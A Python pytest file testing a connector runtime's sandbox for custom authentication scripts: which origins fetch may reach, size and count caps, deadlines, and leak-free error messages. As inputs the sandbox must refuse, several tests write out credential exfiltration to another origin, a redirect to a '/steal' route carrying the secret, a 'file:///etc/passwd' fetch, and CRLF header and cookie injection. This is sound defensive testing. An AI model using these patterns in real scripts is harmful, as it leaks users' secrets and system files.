"""A ``custom_function``'s ``fetch`` and the caps on what it adds, through ``invoke``, against real
servers on loopback: the login call a custom scheme needs goes only to the connector's accepted
origins, few, small and within the deadline; what the function adds is capped and checked before
anything reaches the system; every failure is one line naming the method (and the fetch), never
a secret."""

from __future__ import annotations

import gc
import json
import time
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler
from pathlib import Path
from typing import Any

import pytest
from pydantic import SecretStr

from connectory import inspect
from connectory.errors import InputError, InsecureOrigin, SourceUnreachable, UntrustedOrigin
from connectory.model.auth import CustomFunctionAuth
from connectory.model.version import ConnectorVersion
from connectory.runtime import invoke
from tests.support.consent import accept
from tests.support.servers import LoopbackServer, Reply, serve

SECRET = "pa55-w0rd-secret"
CREDENTIALS = {"signer": {"key": SecretStr(SECRET)}}
WHERE = "auth method 'signer' (custom_function)"
MB = 1024 * 1024
DOCUMENT = {
    "openapi": "3.0.3",
    "info": {"title": "Vault", "version": "1"},
    "paths": {
        "/items/1": {"get": {"operationId": "getItem", "responses": {"200": {"description": "ok"}}}}
    },
}
LOGIN = """async function authenticate(request, credentials) {
  const answer = await fetch(%s, {
    method: "POST",
    headers: {"Content-Type": "application/json"},
    body: JSON.stringify({key: credentials.key}),
  });
  if (!answer.ok) throw new Error("login refused: " + answer.status);
  const {token} = await answer.json();
  return {headers: {Authorization: "Bearer " + token}};
}"""


def _version(tmp_path: Path, source: str, **limits: Any) -> ConnectorVersion:
    (tmp_path / "vault.json").write_text(json.dumps(DOCUMENT))
    version = inspect(tmp_path / "vault.json", connector="vault")
    method = CustomFunctionAuth(name="signer", source=source, **limits)
    return version.model_copy(
        update={"auth_methods": [method], "default_auth": [{method.name: []}]}
    )


def _login(handler: BaseHTTPRequestHandler) -> Reply:
    body = json.loads(handler.rfile.read(int(handler.headers["Content-Length"])))
    if body != {"key": SECRET} or handler.headers["Content-Type"] != "application/json":
        return Reply(401, b"{}")
    return Reply(200, b'{"token": "t0k3n-from-login"}', {"Content-Type": "application/json"})


def _item(handler: BaseHTTPRequestHandler) -> Reply:
    good = handler.headers.get("Authorization") == "Bearer t0k3n-from-login"
    return Reply(200, b"{}") if good else Reply(403, b"{}")


@pytest.fixture
def system() -> Iterator[LoopbackServer]:
    """The connector's system: a login endpoint and the action's."""
    with serve({"/login": _login, "/items/1": _item}) as server:
        yield server


@pytest.fixture
def elsewhere() -> Iterator[LoopbackServer]:
    """Another origin (another port on loopback), never accepted for the connector."""
    with serve({"/login": _login, "/steal": Reply(200, b"{}")}) as server:
        yield server


def _invoke(version: ConnectorVersion, system: LoopbackServer) -> Any:
    accept(version, system.base_url)
    return invoke(version, "getItem", credentials=CREDENTIALS, server=system.base_url)


def _refused(version: ConnectorVersion, system: LoopbackServer) -> InputError:
    """The one-line error an invoke ends in; nothing reached the action, no secret shown."""
    with pytest.raises(InputError) as raised:
        _invoke(version, system)
    assert "/items/1" not in system.requests
    error = raised.value
    assert "\n" not in str(error)
    assert SECRET not in str(error)
    return error


def test_a_function_fetches_its_token_from_the_login_endpoint(
    tmp_path: Path, system: LoopbackServer
) -> None:
    version = _version(tmp_path, LOGIN % json.dumps(system.url("/login")))
    done = _invoke(version, system)
    assert done.status == 200
    assert system.requests == ["/login", "/items/1"]


def test_a_redirect_to_the_same_origin_is_followed(tmp_path: Path, system: LoopbackServer) -> None:
    system.routes["/old-login"] = Reply(308, b"", {"Location": "/login"})
    source = LOGIN.replace("answer.ok)", "answer.ok || !answer.redirected)")
    version = _version(tmp_path, source % json.dumps(system.url("/old-login")))
    assert _invoke(version, system).status == 200
    assert system.requests == ["/old-login", "/login", "/items/1"]


def test_a_fetch_to_an_origin_not_accepted_is_not_sent(
    tmp_path: Path, system: LoopbackServer, elsewhere: LoopbackServer
) -> None:
    url = elsewhere.url("/login")
    version = _version(tmp_path, LOGIN % f'"{url}?key=" + credentials.key')
    error = _refused(version, system)
    assert isinstance(error, UntrustedOrigin)
    assert "(auth method 'signer') would send secrets to " + elsewhere.base_url in error.message
    assert elsewhere.requests == []
    assert system.requests == []


def test_a_fetch_over_plain_http_off_loopback_is_not_sent(
    tmp_path: Path, system: LoopbackServer
) -> None:
    version = _version(tmp_path, LOGIN % '"http://login.example.test/token"')
    error = _refused(version, system)
    assert isinstance(error, InsecureOrigin)
    assert system.requests == []


def test_a_redirect_to_another_origin_is_not_followed(
    tmp_path: Path, system: LoopbackServer, elsewhere: LoopbackServer
) -> None:
    away = Reply(302, b"", {"Location": elsewhere.url(f"/steal?k={SECRET}")})
    system.routes[f"/login/{SECRET}"] = away
    version = _version(tmp_path, LOGIN % f'"{system.url("/login/")}" + credentials.key')
    error = _refused(version, system)
    assert error.message == (
        f"{WHERE}: fetch 1 (POST {system.url('/login/***')}): redirects to another origin, "
        f"{elsewhere.base_url}/: not followed"
    )
    assert elsewhere.requests == []


@pytest.mark.parametrize(
    ("source", "expected", "sent"),
    [
        (
            "async function authenticate() { for (let i = 0; i < 3; i++) await fetch(%s); }",
            "fetch 3: more than 2 fetches in one call (the host's limit)",
            2,
        ),
        (  # the redirects followed count: the host counts what it sends
            "async function authenticate() { await fetch(%s + '/r1'); }",
            "fetch 3: more than 2 fetches in one call (the host's limit)",
            2,
        ),
        (  # not even the first is sent
            "async function authenticate() { await fetch(%s, {method: 'POST', body: 'x'.repeat(2000)}); }",
            "fetch 1: its request is larger than 1,000 bytes (the host's limit)",
            0,
        ),
        (
            "async function authenticate() { await fetch(%s + '/big'); }",
            "fetch 1 (GET {base}/big): the answer is larger than 1,000 bytes (the host's limit)",
            1,
        ),
        (
            "async function authenticate() { await fetch(%s + '/stream'); }",
            "fetch 1 (GET {base}/stream): the answer is larger than 1,000 bytes (the host's limit)",
            1,
        ),
    ],
    ids=["fetches", "redirects", "request body", "answer", "answer without a length"],
)  # fmt: skip
def test_fetches_are_few_and_small(
    tmp_path: Path,
    system: LoopbackServer,
    monkeypatch: pytest.MonkeyPatch,
    source: str,
    expected: str,
    sent: int,
) -> None:
    monkeypatch.setenv("CONNECTORY_FUNCTION_MAX_FETCHES", "2")
    monkeypatch.setenv("CONNECTORY_FUNCTION_MAX_FETCH_BYTES", "1000")
    system.routes.update(
        {
            "/": Reply(200, b"ok"),
            "/r1": Reply(307, b"", {"Location": "/r2"}),
            "/r2": Reply(307, b"", {"Location": "/r3"}),
            "/big": Reply(200, b"x" * 1001),
            "/stream": Reply(200, b"x" * 5000, declare_length=False),
        }
    )
    version = _version(tmp_path, source % json.dumps(system.base_url))
    error = _refused(version, system)
    assert error.message == f"{WHERE}: {expected.format(base=system.base_url)}"
    assert len(system.requests) == sent


@pytest.mark.parametrize(
    ("returned", "expected"),
    [
        (
            "{headers: {Authorization: 'Bearer ' + 'x'.repeat(20 * 1024 * 1024)}}",
            "returned a header 'Authorization' longer than 8192 bytes (the host's limit)",
        ),
        (
            "{headers: Object.fromEntries(Array.from({length: 10}, (_, i) => ['X-' + i, 'v'.repeat(8000)]))}",
            "returned more than 65,536 bytes of headers, query parameters and cookies in all "
            "(the host's limit)",
        ),
        (
            "{headers: {'X-A': 'a\\r\\nX-Injected: ' + c.key}}",
            "the header 'X-A' holds a character a header cannot carry",
        ),
        (
            "{headers: {'X-A\\r\\nX-Injected': c.key}}",
            "returned 'X-A\\r\\nX-Injected', which cannot name a header",
        ),
        (
            "{cookies: {s: c.key + '\\n'}}",
            "the cookie 's' holds a character a cookie cannot carry",
        ),
    ],
    ids=["a 20 MB header", "too much in all", "CR LF in a value", "CR LF in a name", "LF in a cookie"],
)  # fmt: skip
def test_what_a_function_adds_is_capped_and_checked_before_anything_is_sent(
    tmp_path: Path, system: LoopbackServer, returned: str, expected: str
) -> None:
    system.routes["/token"] = Reply(200, b"t")
    source = f"async function authenticate(r, c) {{ await fetch('{system.url('/token')}'); return {returned}; }}"  # fmt: skip
    version = _version(tmp_path, source, timeout_ms=10_000)
    error = _refused(version, system)
    assert error.message == f"{WHERE}: {expected}"
    assert system.requests == ["/token"]  # the fetch went, the call never did


@pytest.mark.parametrize(
    ("call", "expected"),
    [
        (
            "fetch(%s, {headers: {'X-Key': c.key + '\\r\\nX-Injected: 1'}})",
            "fetch 1: the header 'X-Key' holds a character a header cannot carry",
        ),
        ("fetch(%s, {headers: {Host: 'example.com'}})", "fetch 1: the header 'Host' is set by the host, not the function"),
        ("fetch(%s, {method: 'TRACE'})", "fetch 1: the method 'TRACE' is not one of GET, HEAD, POST, PUT, PATCH, DELETE, OPTIONS"),
        ("fetch('file:///etc/passwd?' + c.key)", "fetch 1: 'file:///etc/passwd?***' is not an http(s) URL"),
        ("fetch(42)", "failed: TypeError: fetch: the URL must be a string"),
        ("fetch(%s, {body: {key: c.key}})", "failed: TypeError: fetch: the body must be a string"),
    ],
)  # fmt: skip
def test_a_fetch_that_cannot_be_sent_is_refused_and_nothing_is_sent(
    tmp_path: Path, system: LoopbackServer, call: str, expected: str
) -> None:
    if "%s" in call:
        call = call % json.dumps(system.url("/login"))
    source = f"async function authenticate(r, c) {{ await {call}; return {{}}; }}"
    error = _refused(_version(tmp_path, source), system)
    separator = " " if expected.startswith("failed") else ": "
    assert error.message.startswith(f"{WHERE}{separator}{expected}"), error.message
    assert system.requests == []


@pytest.mark.parametrize(
    ("source", "route", "expected"),
    [
        (  # the loop after the fetch: V8 stops it
            "async function authenticate() { await fetch(%s); while (true) {} }",
            None,
            "stopped after 1000 ms",
        ),
        (  # a loop of microtasks, which V8 runs between two steps
            "async function authenticate() { await fetch(%s); while (true) await null; }",
            None,
            "stopped after 1000 ms",
        ),
        (  # the fetch's answer, dripped past the deadline: the deadline covers fetches
            "async function authenticate() { await fetch(%s); }",
            Reply(200, b"x" * 100, drip_seconds=0.05),
            "fetch 1 (GET {url}): the answer was not read before the deadline",
        ),
    ],
    ids=["a loop", "a microtask loop", "a slow answer"],
)
def test_the_deadline_covers_the_whole_call(
    tmp_path: Path,
    system: LoopbackServer,
    monkeypatch: pytest.MonkeyPatch,
    source: str,
    route: Reply | None,
    expected: str,
) -> None:
    monkeypatch.setenv("CONNECTORY_FUNCTION_MAX_FETCHES", "100")
    if route is not None:
        system.routes["/slow"] = route
    url = system.url("/slow" if route is not None else "/")
    system.routes.setdefault("/", Reply(200, b"ok"))
    version = _version(tmp_path, source % json.dumps(url), timeout_ms=1000)
    error = _refused(version, system)
    assert error.message.startswith(f"{WHERE}: {expected.format(url=url)}"), error.message


def test_a_rejection_or_a_promise_that_never_settles_is_one_line(
    tmp_path: Path, system: LoopbackServer
) -> None:
    rejects = "async function authenticate(r, c) { throw new Error('no\\nway ' + c.key); }"
    error = _refused(_version(tmp_path, rejects), system)
    assert error.message == f"{WHERE} failed: Error: no"
    never = "async function authenticate() { await new Promise(() => {}); }"
    error = _refused(_version(tmp_path, never), system)
    assert error.message == (
        f"{WHERE}: its promise never settles: it waits for something other than fetch "
        "(there is no event loop, no timers)"
    )
    assert system.requests == []


def test_the_function_reads_status_headers_and_cookies_of_an_answer(
    tmp_path: Path, system: LoopbackServer
) -> None:
    system.routes["/csrf"] = Reply(
        201,
        b"not json",
        {"X-Csrf": "c1", "Set-Cookie": "session=s1; Path=/", "Content-Type": "text/plain"},
    )
    source = """async function authenticate() {
      const a = await fetch(%s);
      let json = "none";
      try { await a.json(); } catch (e) { json = e.name; }
      const seen = [a.status, a.ok, a.statusText, a.headers.get("x-csrf"), a.headers.has("X-CSRF"),
        a.headers.getSetCookie().join("|"), await a.text(), json, a.redirected];
      return {headers: {"X-Seen": seen.join(",")}};
    }"""
    seen: list[str] = []
    system.routes["/items/1"] = lambda handler: (
        seen.append(handler.headers["X-Seen"]) or Reply(200, b"{}")
    )
    version = _version(tmp_path, source % json.dumps(system.url("/csrf")))
    assert _invoke(version, system).status == 200
    assert seen == ["201,true,Created,c1,true,session=s1; Path=/,not json,SyntaxError,false"]


def test_a_worker_left_in_the_middle_of_a_call_is_stopped(
    tmp_path: Path,
    system: LoopbackServer,
    elsewhere: LoopbackServer,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    from connectory.runtime import sandbox

    taken: list[Any] = []
    take = sandbox._take
    monkeypatch.setattr(sandbox, "_take", lambda where: taken.append(take(where)) or taken[-1])
    version = _version(tmp_path, LOGIN % json.dumps(elsewhere.url("/login")))
    refused = False
    try:
        _invoke(version, system)
    except UntrustedOrigin:
        refused = True
    gc.collect()
    assert refused
    [worker] = taken
    assert not worker.alive()  # it was waiting for the fetch's answer: killed, not kept
    assert worker not in sandbox._IDLE
    version = _version(tmp_path, LOGIN % json.dumps(system.url("/login")))
    assert _invoke(version, system).status == 200


def test_a_fetch_answered_after_the_deadline_is_given_up_at_the_deadline(
    tmp_path: Path, system: LoopbackServer
) -> None:
    def late(handler: BaseHTTPRequestHandler) -> Reply:
        time.sleep(4)
        return Reply(200, b"{}")

    system.routes["/late"] = late
    version = _version(tmp_path, LOGIN % json.dumps(system.url("/late")), timeout_ms=1000)
    started = time.monotonic()
    error = _refused(version, system)
    assert time.monotonic() - started < 2.5  # the fetch had what was left of the call's second
    assert isinstance(error, SourceUnreachable)
    assert "timed out" in error.message
    assert system.requests == ["/late"]
